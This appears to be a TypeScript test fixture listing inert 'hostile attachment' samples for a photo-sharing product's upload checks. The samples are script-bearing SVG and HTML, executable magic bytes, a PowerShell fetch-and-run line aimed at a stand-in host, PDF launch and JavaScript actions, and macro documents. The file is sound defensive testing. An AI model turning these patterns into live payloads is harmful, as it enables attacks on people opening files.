import { gzipSync } from 'node:zlib';

/**
 * Bytes that could come where a family expects a photo, written for this project: what a browser or system would run, show as
 * a page, or be led to by a lying name. None of them does anything: the programs are marks without a program.
 */
export interface HostileAttachment {
  what: string;
  bytes: Uint8Array<ArrayBuffer>;
  /** What the product takes it for. A web page is a failed attachment in the reader; the rest is saved. */
  mediaType: string;
  /** "dat" is the neutral extension of what could run. */
  extension: string;
  /** Why no page links to it; null for what may be linked. */
  caution: 'could-run' | 'unknown' | 'acts-by-itself' | 'holds-programs' | null;
}

export function bytesOf(
  ...pieces: readonly (string | readonly number[] | Uint8Array)[]
): Uint8Array<ArrayBuffer> {
  return new Uint8Array(
    Buffer.concat(
      pieces.map((piece) => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : Buffer.from(piece))),
    ),
  );
}

const utf16 = (text: string, big: boolean, mark: boolean): Uint8Array<ArrayBuffer> => {
  const little = Buffer.from((mark ? '\uFEFF' : '') + text, 'utf16le');
  return new Uint8Array(big ? Buffer.from(little).swap16() : little);
};
const bom = '\xef\xbb\xbf';
const svgMark = '<svg xmlns="http://www.w3.org/2000/svg" onload="fake()"><script>fake()</script></svg>';
const page = '<script>fake()</script>';

type Row = readonly [what: string, bytes: Uint8Array<ArrayBuffer> | string];
const rows =
  (mediaType: string, extension: string, caution: HostileAttachment['caution']) =>
  (...given: readonly Row[]): HostileAttachment[] =>
    given.map(([what, bytes]) => ({
      what,
      bytes: typeof bytes === 'string' ? bytesOf(bytes) : bytes,
      mediaType,
      extension,
      caution,
    }));

const pictures = rows('image/svg+xml', 'dat', 'could-run')(
  ['an SVG', svgMark],
  ['an SVG with a byte order mark', bom + svgMark],
  ['an SVG in UTF-16, little end first', utf16(svgMark, false, true)],
  ['an SVG in UTF-16, big end first', utf16(svgMark, true, true)],
  ['an SVG in UTF-16 without a mark', utf16(svgMark, false, false)],
  ['an SVG in UTF-16 without a mark, big end first', utf16(svgMark, true, false)],
  ['an SVG behind comments', `<!-- a photo --> <!-- JFIF -->\n${svgMark}`],
  ['an SVG behind a declaration', `<?xml version="1.0" encoding="utf-8"?>\n${svgMark}`],
  [
    'an SVG behind a style sheet instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="fake.xsl"?>${svgMark}`,
  ],
  ['an SVG behind a doctype', `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "fake.dtd">${svgMark}`],
  [
    'an SVG behind a doctype with entities',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b>"><!ENTITY c "]">]>${svgMark}`,
  ],
  ['an SVG behind 2 KB of white space', ' \r\n\t'.repeat(512) + svgMark],
  ['an SVG with a prefix', '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>fake()</s:script></s:svg>'],
  ['an SVG in capital letters', '<SVG ONLOAD=fake()>'],
  ['an SVG after words', `Look at this:\n${svgMark}`],
);

/** Every tag of the table in the MIME Sniffing standard, 7.1; each is followed by a space or ">". */
const sniffedTags = '!DOCTYPE HTML|HTML|HEAD|SCRIPT|IFRAME|H1|DIV|FONT|TABLE|A|STYLE|TITLE|B|BODY|BR|P'.split(
  '|',
);
const pages = [
  ...rows('text/html', 'dat', 'could-run')(
    ...sniffedTags.map((tag): Row => [`a page that begins with <${tag}>`, `<${tag}>${page}`]),
    ...sniffedTags.map((tag): Row => [
      `a page with white space and <${tag} `,
      `\t\n\f\r <${tag.toLowerCase()} x>${page}`,
    ]),
    ['a page that begins with a comment', `<!-- -->${page}`],
    ['a page that begins with a comment without an end', `<!-- ${'x'.repeat(5000)}`],
    ['a page behind a byte order mark', `${bom}<html>${page}`],
    ['a page in UTF-16', utf16(`<html>${page}`, false, true)],
    ['a page in UTF-16, big end first', utf16(`<html>${page}`, true, true)],
    ['a page in UTF-16 without a mark', utf16(`<html>${page}`, false, false)],
    ['a page with a zero byte after its tag', `<html>\0\x01\x02${page}`],
    ['a page after words', `JFIF photo ${page}`],
    ['a page after a picture in words', `GIF88a <body onload=fake()>`],
    ['a page that is a PDF behind its tags', '<html><script>fake()</script>%PDF-1.4\n%%EOF'],
    ['a page that is a ZIP behind its tags', bytesOf(`<html>${page}`, 'PK\x03\x04', new Uint8Array(40))],
    ['a page with an SVG in its head', `<!DOCTYPE html><html><head>${svgMark}</head>`],
    [
      'a page in the old way of XHTML',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x"><html xmlns="http://www.w3.org/1999/xhtml">',
    ],
    ['a page made by PHP', '<?php fake(); ?><p>x'],
    [
      'an HTML application (HTA)',
      '<html><HTA:APPLICATION ID="fake"/><script language="VBScript">fake</script>',
    ],
    ['a script component', '<object id="fake"><script>fake()</script></object>'],
  ),
  ...rows('application/xhtml+xml', 'dat', 'could-run')(
    [
      'XHTML behind a declaration',
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`,
    ],
    [
      'XHTML with a doctype',
      `<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">\n<html xmlns="http://www.w3.org/1999/xhtml">`,
    ],
    ['XHTML with a prefix', `<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml"/>`],
    [
      'XHTML behind comments',
      `<?xml version="1.0"?><!-- a --><!-- b --><html xmlns="http://www.w3.org/1999/xhtml"/>`,
    ],
  ),
];

const markup = rows('text/xml', 'dat', 'could-run')(
  ['XML', '<?xml version="1.0"?><fake/>'],
  ['XML with a style sheet', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><fake/>'],
  ['XSLT', '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>'],
  ['MathML', '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction/></math>'],
  [
    'a web location of macOS',
    '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "x" "y"><plist><dict><key>URL</key></dict></plist>',
  ],
  ['a feed', '<rss xmlns:a="b" version="2.0"></rss>'],
);

const programs = [
  ...rows(
    'application/vnd.microsoft.portable-executable',
    'dat',
    'could-run',
  )(
    ['a program of Windows', bytesOf('MZ\x90\0', new Uint8Array(200))],
    ['a screen saver', bytesOf('MZP\0', new Uint8Array(200), 'PE\0\0')],
  ),
  ...rows('application/x-executable', 'dat', 'could-run')(
    ['a program of Linux', bytesOf('\x7fELF\x02\x01\x01', new Uint8Array(60))],
    ...['feedface', 'feedfacf', 'cefaedfe', 'cffaedfe', 'cafebabe', 'cafebabf', 'bebafeca', 'bfbafeca'].map(
      (mark): Row => [
        `a program of macOS (${mark}), or a Java class`,
        bytesOf(Buffer.from(mark, 'hex'), new Uint8Array(60)),
      ],
    ),
    ['code of Android', bytesOf('dex\n035\0', new Uint8Array(60))],
    ['a shell script', '#!/bin/sh\nfake\n'],
    ['a shell script behind a byte order mark', `${bom}#!/usr/bin/env python3\n`],
    ['a batch file', '@echo off\r\nfake\r\n'],
    ['a batch file in capital letters', 'ECHO OFF\r\nFAKE'],
    ['a registry file', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_FAKE]'],
    ['a registry file in UTF-16', utf16('Windows Registry Editor Version 5.00\r\n', false, true)],
    ['an old registry file', 'REGEDIT4\r\n[HKEY_FAKE]'],
  ),
  ...rows('application/x-ms-shortcut', 'dat', 'could-run')(
    ['a shortcut of Windows', bytesOf([0x4c, 0, 0, 0, 1, 0x14, 2, 0], new Uint8Array(70))],
    ['a web shortcut', '[InternetShortcut]\r\nURL=http://fake.example/\r\n'],
    ['a web shortcut in UTF-16', utf16('[InternetShortcut]\r\nURL=file://fake', false, true)],
    ['a desktop entry of Linux', '[Desktop Entry]\nType=Application\nExec=fake\n'],
    ['an autorun file', '[autorun]\r\nopen=fake.exe'],
    ['a shell command file', '[Shell]\r\nCommand=2\r\nIconFile=\\\\fake\\x'],
  ),
  ...rows(
    'application/java-archive',
    'dat',
    'could-run',
  )(
    ['a program of Java', bytesOf('PK\x03\x04', new Uint8Array(26), 'META-INF/MANIFEST.MF')],
    ['a program of Java without a manifest', bytesOf('PK\x03\x04', new Uint8Array(26), 'fake/Main.class')],
  ),
  ...rows(
    'application/vnd.android.package-archive',
    'dat',
    'could-run',
  )([
    'an app of Android',
    bytesOf('PK\x03\x04', new Uint8Array(26), 'AndroidManifest.xml', 'PK\x03\x04META-INF/MANIFEST.MF'),
  ]),
  ...rows(
    'application/x-shockwave-flash',
    'dat',
    'could-run',
  )(
    ...['FWS', 'CWS', 'ZWS'].map((mark): Row => [
      `a Flash film (${mark})`,
      bytesOf(mark, '\x0a', new Uint8Array(40)),
    ]),
  ),
  ...rows(
    'application/x-ole-storage',
    'dat',
    'could-run',
  )([
    'an installer, or an old document with macros',
    bytesOf(Buffer.from('d0cf11e0a1b11ae1', 'hex'), new Uint8Array(500), '_VBA_PROJECT'),
  ]),
  ...rows('application/wasm', 'dat', 'could-run')(['WebAssembly', bytesOf('\0asm\x01\0\0\0')]),
  ...rows(
    'application/vnd.ms-htmlhelp',
    'dat',
    'could-run',
  )(['a help file', bytesOf('ITSF\x03\0\0\0', new Uint8Array(40))]),
  ...rows(
    'application/vnd.ms-cab-compressed',
    'dat',
    'could-run',
  )(['a cabinet', bytesOf('MSCF\0\0\0\0', new Uint8Array(40))]),
  ...rows(
    'application/x-chrome-extension',
    'dat',
    'could-run',
  )(['a browser extension', bytesOf('Cr24\x03\0\0\0', new Uint8Array(40))]),
];

const mails = [
  ...rows(
    'multipart/related',
    'dat',
    'could-run',
  )(
    [
      'a saved web page (MHT)',
      'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="f"\r\n\r\n--f\r\nContent-Type: text/html\r\n\r\nx',
    ],
    [
      'a saved web page of Chrome',
      `From: <Saved by Fake>\r\nSnapshot-Content-Location: http://fake.example/\r\nSubject: fake\r\nDate: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype="text/html"\r\n\r\n`,
    ],
  ),
  ...rows(
    'message/rfc822',
    'dat',
    'could-run',
  )(
    [
      'a mail',
      'From: fake@fake.example\r\nSubject: fake\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nx',
    ],
    ['a mail that is a page', 'Content-Type: text/html\r\n\r\nx'],
  ),
];

const pdf = (inside: string): string =>
  `%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${inside} >>\nendobj\n2 0 obj\n<< /S /URI /URI (http://fake.example) >>\nendobj\n3 0 obj\n[ 1 0 R /Fit ]\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF`;
const documents = [
  ...rows('application/pdf', 'pdf', 'acts-by-itself')(
    ['a PDF with a script', pdf('/Names << /JavaScript 5 0 R >>')],
    ['a PDF with a script by its short name', pdf('/A << /S/JS(fake) >> /JS (fake())')],
    ['a PDF with a script whose name is disguised', pdf('/J#61va#53cript (fake)')],
    ['a PDF that starts a program', pdf('/A << /S /Launch /F (fake.exe) >>')],
    ['a PDF that opens an address by itself', pdf('/OpenAction << /S /URI /URI (http://fake.example) >>')],
    ['a PDF that names what it does by itself', pdf('/OpenAction 2 0 R')],
    ['a PDF that does something on a page', pdf('/AA << /O 2 0 R >>')],
    ['a PDF with a file inside', pdf('/Names << /EmbeddedFiles 4 0 R >>')],
    ['a PDF that sends a form', pdf('/A << /S /SubmitForm /F (http://fake.example) >>')],
    ['a PDF with a form of XFA', pdf('/AcroForm << /XFA 4 0 R >>')],
    ['a PDF behind other bytes', `fake fake\r\n${pdf('/RichMedia 4 0 R')}`],
  ),
  ...rows('application/rtf', 'rtf', 'holds-programs')(
    ['an RTF with an object', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'],
    ['an RTF with a template elsewhere', '{\\rtf1{\\*\\template http://fake.example/x.dotm}}'],
    [
      'an RTF with a picture elsewhere',
      '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://fake.example/x.png"}}}',
    ],
  ),
  ...rows(
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    'docx',
    'holds-programs',
  )(
    [
      'a Word document with macros',
      bytesOf(
        'PK\x03\x04',
        new Uint8Array(26),
        '[Content_Types].xmlPK\x03\x04word/document.xml',
        new Uint8Array(5000),
        'word/vbaProject.bin',
      ),
    ],
    [
      'a Word document with another file inside',
      bytesOf(
        'PK\x03\x04',
        new Uint8Array(26),
        '[Content_Types].xmlword/document.xmlword/embeddings/oleObject1.bin',
      ),
    ],
  ),
  ...rows(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    'xlsx',
    'holds-programs',
  )(
    [
      'an Excel sheet with macros',
      bytesOf(
        'PK\x03\x04',
        new Uint8Array(26),
        '[Content_Types].xmlPK\x03\x04xl/workbook.xmlxl/vbaProject.bin',
      ),
    ],
    [
      'an Excel sheet with old macros',
      bytesOf(
        'PK\x03\x04',
        new Uint8Array(26),
        '[Content_Types].xmlPK\x03\x04xl/workbook.xmlxl/macrosheets/sheet1.xml',
      ),
    ],
  ),
  ...rows(
    'application/vnd.oasis.opendocument.text',
    'odt',
    'holds-programs',
  )([
    'an OpenDocument text with macros',
    bytesOf(
      'PK\x03\x04',
      new Uint8Array(26),
      'mimetypeapplication/vnd.oasis.opendocument.textPK\x03\x04Basic/Standard/Fake.xml',
    ),
  ]),
];

/** Kept under the extension of what they are to any program: that is what makes them harmless. */
const harmless = [
  ...rows(
    'image/gif',
    'gif',
    null,
  )(['a GIF that is also a script and a page', `GIF89a/*<html>${page}*/=1;fake()`]),
  ...rows(
    'image/jpeg',
    'jpg',
    null,
  )(['a JPEG with a page in a comment', `\xff\xd8\xff\xfe\0\x40<html>${page}`]),
  ...rows(
    'image/png',
    'png',
    null,
  )(['a PNG that is also a ZIP', bytesOf('\x89PNG\r\n\x1a\n', new Uint8Array(50), 'PK\x03\x04fake.exe')]),
  ...rows(
    'image/bmp',
    'bmp',
    null,
  )(['a BMP that is also a script', bytesOf('BM=1;', new Uint8Array(9), [40], new Uint8Array(40))]),
  ...rows('application/gzip', 'gz', null)(['an SVG packed as SVGZ', new Uint8Array(gzipSync(svgMark))]),
  ...rows(
    'application/zip',
    'zip',
    null,
  )(['a ZIP with a program inside', bytesOf('PK\x03\x04', new Uint8Array(26), 'fake.exe')]),
  ...rows('text/plain', 'txt', null)(
    ['a script', 'window.fake = 1; fake();'],
    ['a style sheet', '@import url(http://fake.example/x.css); body { color: red }'],
    ['a PowerShell script', 'Invoke-Fake -Uri http://fake.example | iex'],
    ['a VBScript', 'Set fake = CreateObject("Fake.Shell")'],
    ['a web app manifest', '{"name":"fake","start_url":"http://fake.example"}'],
    ['an offline manifest', 'CACHE MANIFEST\n/fake'],
    ['a letter with a heart', 'I <3 you & a < b'],
    ['a letter that begins like a mail', 'From: Mum\nTo: you\nDear one'],
  ),
  ...rows('application/pdf', 'pdf', null)(
    ['a plain PDF', pdf('')],
    ['a PDF that begins at its first page', pdf('/OpenAction [1 0 R /FitH 700]')],
    ['a PDF whose first page stands in an object', pdf('/OpenAction 3 0 R')],
    [
      'a scanned PDF with short names by chance in a packed picture',
      `%PDF-1.4\n1 0 obj << /Length 9 >>\nstream\n/JS \x01/AA \x02\nendstream\n%%EOF`,
    ],
  ),
  ...rows('application/rtf', 'rtf', null)(['a plain RTF', '{\\rtf1 A letter about objects}']),
];

const unknown = rows(
  'application/octet-stream',
  'bin',
  'unknown',
)(
  ['bytes nobody knows', bytesOf([1, 2, 3, 4, 0, 0])],
  ['bytes nobody knows with a page behind them', bytesOf([1, 2, 3, 4, 0, 0], `<html>${page}`)],
);

export const hostileAttachments: readonly HostileAttachment[] = [
  ...pictures,
  ...pages,
  ...markup,
  ...programs,
  ...mails,
  ...documents,
  ...harmless,
  ...unknown,
];
